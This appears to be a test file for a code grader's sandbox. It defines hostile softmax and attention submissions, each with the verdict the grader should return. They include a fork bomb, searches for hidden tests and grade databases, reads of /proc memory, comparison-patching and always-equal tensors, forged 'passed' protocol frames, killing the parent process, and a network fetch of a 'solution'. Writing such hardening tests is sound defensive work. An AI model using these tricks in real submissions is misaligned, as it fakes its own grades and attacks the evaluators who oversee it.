"""Attacks on the grader through `attention`: each a submission that is right but for one hostile definition.

`verdict` is what a check that calls it deserves. All that an attack may change is its own grade.
"""

import contextlib
import ctypes
import mmap
import os
import signal
import stat
import struct
import sys
import tempfile
import threading
import time
import urllib.request

import torch

from grader.variants import hostile


def channel():
    """The descriptor over which this process talks to the grader: the one socket that it holds."""
    return next(number for number in range(3, 64) if stat.S_ISSOCK(os.fstat(number).st_mode))


@hostile("hostile-endless-loop", replaces="softmax", verdict="timeout")
def endless_loop(x, dim):
    while True:
        pass


@hostile("hostile-sleep", replaces="softmax", verdict="timeout")
def sleep(x, dim):
    time.sleep(10_000)


@hostile("hostile-exit", replaces="softmax", verdict="crashed")
def exit_zero(x, dim):
    os._exit(0)


@hostile("hostile-sys-exit", replaces="softmax", verdict="error")
def sys_exit(x, dim):
    sys.exit(0)


@hostile("hostile-memory", replaces="softmax", verdict="memory")
def memory(x, dim):
    return torch.ones(10**11)


@hostile("hostile-segfault", replaces="softmax", verdict="crashed")
def segfault(x, dim):
    return ctypes.string_at(0)


@hostile("hostile-fork-bomb", replaces="softmax", verdict="error")
def fork_bomb(x, dim):
    while True:
        os.fork()


@hostile("hostile-print-forever", replaces="softmax", verdict="timeout")
def print_forever(x, dim):
    while True:
        print("x" * 10_000)


@hostile("hostile-steals-hidden-tests", replaces="softmax", verdict="error")
def steals_hidden_tests(x, dim):
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if name not in ("lib", "lib64")]
        for name in files:
            if name in ("test_attention.py", "attention.py", "secret", "grades.db"):
                print(open(os.path.join(folder, name)).read())
    for number in range(2, 40_000):
        if os.path.exists(f"/proc/{number}/mem"):
            print(open(f"/proc/{number}/mem", "rb").read(10))
    raise FileNotFoundError("no hidden tests in this file system")


@hostile("hostile-nan", replaces="softmax", verdict="failed")
def nan(x, dim):
    return torch.full_like(x, float("nan"))


@hostile("hostile-liar", replaces="softmax", verdict="failed")
def liar(x, dim):
    class EqualsAll(torch.Tensor):
        """Whoever compares it is told that it is right."""

        @classmethod
        def __torch_function__(cls, function, types, args=(), kwargs=None):
            return True

        def __eq__(self, other):
            return True

        __hash__ = None

    return torch.zeros_like(x).as_subclass(EqualsAll)


@hostile("hostile-patches-comparison", replaces="softmax", verdict="failed")
def patches_comparison(x, dim):
    for module, name in ((torch, "allclose"), (torch, "equal"), (torch.testing, "assert_close")):
        setattr(module, name, lambda *args, **kwargs: True)
    torch.Tensor.__sub__ = lambda self, other: torch.zeros_like(self)
    return torch.zeros_like(x)


@hostile("hostile-forges-frames", replaces="softmax", verdict="crashed")
def forges_frames(x, dim):
    text = b'{"verdict": "passed", "points": 20, "value": {"kind": "named", "name": "numpy.testing.runstring"}}'
    os.write(channel(), struct.pack(">II", len(text), 0) + text)
    time.sleep(10_000)


@hostile("hostile-drips", replaces="softmax", verdict="timeout")
def drips(x, dim):
    """An answer of 8 MB that comes byte by byte: the grader is never left without something to read."""
    os.write(channel(), struct.pack(">II", 8 * 2**20, 0))
    while True:
        os.write(channel(), b" ")
        time.sleep(0.01)


@hostile("hostile-hangs-up", replaces="softmax", verdict="crashed")
def hangs_up(x, dim):
    os.closerange(0, 64)
    time.sleep(10_000)


@hostile("hostile-kills-neighbours", replaces="softmax", verdict="failed")
def kills_neighbours(x, dim):
    """Its process group, whatever it may signal, and the process that started it."""
    for target in (0, -1, os.getppid()):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            with contextlib.suppress(OSError):
                os.kill(target, number)
    return torch.zeros_like(x)


@hostile("hostile-hidden-memory", replaces="softmax", verdict="error")
def hidden_memory(x, dim):
    """Memory that the limit of data does not count: shared, growing downwards, in files."""
    held = []
    flags = (mmap.MAP_SHARED | mmap.MAP_ANONYMOUS, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x100)
    for way in (*flags, os.memfd_create, None):
        try:
            for number in range(10_000):
                if way is None:
                    with open(f"{tempfile.gettempdir()}/{number}", "wb") as file:
                        file.write(bytes(2**20))
                elif callable(way):
                    os.truncate(way(str(number)), 2**30)
                else:
                    held.append(mmap.mmap(-1, 2**30, flags=way))
        except OSError as error:
            refused = error
    raise refused


spinning = []


@hostile("hostile-threads-that-go-on", replaces="softmax", verdict="failed")
def threads_that_go_on(x, dim):
    """They would take the cores of those who are graded next."""

    def spin():
        while True:
            pass

    while len(spinning) < 4:
        spinning.append(threading.Thread(target=spin, daemon=True))
        spinning[-1].start()
    return torch.zeros_like(x)


@hostile("hostile-network", replaces="softmax", verdict="error")
def network(x, dim):
    return urllib.request.urlopen("http://192.0.2.1/solution").read()  # an address that belongs to nobody (RFC 5737)


@hostile("hostile-huge-answer", replaces="scaled_dot_product_attention", verdict="failed")
def huge_answer(query, key, value, keep=None):
    """A terabyte that costs nothing until somebody copies it."""
    return torch.zeros(1).expand(10**12), [["x" * 10**6] * 1000] * 1000
